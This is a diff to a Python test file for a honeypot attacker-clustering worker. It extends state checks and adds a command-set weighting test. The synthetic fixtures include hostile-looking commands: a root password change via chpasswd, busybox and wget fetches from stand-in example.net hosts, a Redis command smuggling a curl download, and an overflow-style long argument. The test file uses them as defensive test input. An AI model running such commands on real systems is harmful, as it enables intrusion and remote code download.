@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import random
 from collections.abc import Callable, Iterator
+from typing import Any
 from uuid import UUID
 
 import pytest
@@ -26,10 +27,10 @@ from tests.decnet_workers.clusterer.scenes import (
 )
 from tests.examples import examples
 
-from decnet_core.events.catalogue import HttpRequest, Payload
+from decnet_core.events.catalogue import HttpRequest, Payload, ServiceRequest
 from decnet_core.events.envelope import Event
 from decnet_models.database.engine import reading
-from decnet_models.identities.tables import identity_attacker, identity_core
+from decnet_models.identities.tables import IDENTITIES, identity_attacker, identity_core
 from decnet_workers.clusterer import worker
 from decnet_workers.clusterer.reading import gathering
 
@@ -48,6 +49,7 @@ MAKERS: list[Callable[[str], Payload]] = [
     lambda name: command(f"echo 'root:vK3{name}Tq9xZ' | chpasswd"),
     lambda name: command(f"/bin/busybox KI{name.upper()}; wget http://{name}.example.net/b"),
     lambda name: HttpRequest(method="POST", target="/", body=f'{{"Image": "by{name}/run"}}'),
+    lambda name: ServiceRequest(service="redis", action="SET", detail={"ARGS": f"x curl http://{name}.example.net/r"}),
 ]
 
 
@@ -69,14 +71,17 @@ def logs(draw: st.DrawFn) -> list[Event]:
     return [event(attacker, make(name), at) for attacker, make, name, at in picks]
 
 
-def state(
-    engine: Engine,
-) -> tuple[dict[UUID, frozenset[str]], dict[str, str | None], list[tuple[str, str, str, float]]]:
+State = tuple[dict[UUID, frozenset[str]], dict[str, str | None], list[tuple[Any, ...]], list[tuple[Any, ...]]]
+
+
+def state(engine: Engine) -> State:
     with reading(engine) as connection:
-        c, f = identity_attacker.c, identity_core.c
+        c, f, g = identity_attacker.c, identity_core.c, IDENTITIES.group.c
         cores = {row.attacker: row.core for row in connection.execute(select(c.attacker, c.core))}
-        weights = [tuple(row) for row in connection.execute(select(f.kind, f.digest, f.core, f.weight))]
-    return partition(engine), cores, sorted(weights)
+        weights = [tuple(row) for row in connection.execute(select(f.kind, f.digest, f.core, f.weight, f.magnitude))]
+        sizes = select(g.id, g.members, g.first_seen, g.last_seen).where(g.members > 0)
+        identities = [tuple(row) for row in connection.execute(sizes.order_by(g.id))]
+    return partition(engine), cores, sorted(weights), identities
 
 
 @settings(max_examples=examples(25), deadline=None, phases=[phase for phase in Phase if phase is not Phase.shrink])
@@ -105,8 +110,11 @@ def crews(draw: random.Random) -> Iterator[Event]:
             at = DAY * (begin + draw.randrange(width))
             shown: list[Payload] = [command(f"wget http://kit{crew}.example.net/x")] if number < size - 2 else []
             shown += [password(f"user{crew}{one}", f"secret-{crew}{one}") for one in draw.sample(range(6), 5)]
+            shown += [password(f"user{one}", f"of-{crew}-{one}-long") for one in draw.sample(range(24), 7)]
             shown += [password(f"list{one}", "listed") for one in draw.sample(range(6), draw.choice([0, 5]))]
             shown += [command(f"do{crew}{'abcdefghijklmn'[one]}x --now") for one in range(draw.choice([0, 4, 14]))]
+            shown += [key(f"own {crew}{draw.randrange(6)}") for _ in range(draw.choice([0, 1]))]
+            shown += [command(f"./run -u 4{'ABCDE'[draw.randrange(5)] * 94}") for _ in range(draw.choice([0, 0, 1]))]
             shown += [one for one in (hassh(f"tool{crew % 2}"), file(f"{crew % 2}" * 64)) if draw.random() < 0.5]
             for payload in shown:
                 yield event(attacker, payload, at)
@@ -143,3 +151,19 @@ def test_nor_does_what_is_computed_at_once(seed: int, monkeypatch: pytest.Monkey
         for start in range(0, len(log), 200):
             follower.run(log[start : start + 200])
         assert state(parts) == state(whole)
+
+
+def test_a_set_weighs_less_once_twice_as_many_show_its_members_though_these_weigh_the_same() -> None:
+    crowd = [event(f"10.0.{one >> 8}.{one & 255}", hassh(f"{one:032x}"), DAY * (one % 90)) for one in range(150)]
+    lines = [command(f"{name} --of {name}-own -x") for name in ("fetch", "place", "start", "hide", "tell")]
+    users = [event(who, line, 40 * DAY) for who in ("198.51.100.1", "198.51.100.2") for line in lines]
+    others = [event(f"203.0.113.{place}{one}", line, 40 * DAY) for place, line in enumerate(lines) for one in (1, 2)]
+    with in_memory() as whole, in_memory() as parts:
+        Follower(whole).run([*crowd, *users, *others])
+        follower = Follower(parts).run([*crowd, *users])
+        before = state(parts)[2]
+        follower.run(others)
+        assert state(parts) == state(whole)
+        assert {row[3] for row in before if row[0] == "command_set"} == {20.0}
+        assert {row[3] for row in state(parts)[2] if row[0] == "command_set"} == {18.0}
+        assert {row[3] for row in state(parts)[2] if row[0] == "command"} == {8.3}
